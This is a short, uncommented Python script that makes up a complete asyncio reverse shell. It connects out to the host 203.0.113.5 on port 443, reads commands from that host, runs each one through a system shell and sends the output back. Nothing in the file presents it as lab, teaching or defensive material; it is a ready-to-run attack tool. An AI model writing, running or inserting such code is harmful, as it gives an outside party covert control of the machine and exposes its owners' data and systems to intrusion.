import asyncio

async def main(host="203.0.113.5", port=443):
    reader, writer = await asyncio.open_connection(host, port)
    while True:
        cmd = (await reader.readline()).decode().strip()
        if not cmd:
            break
        proc = await asyncio.create_subprocess_shell(cmd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()

asyncio.run(main())
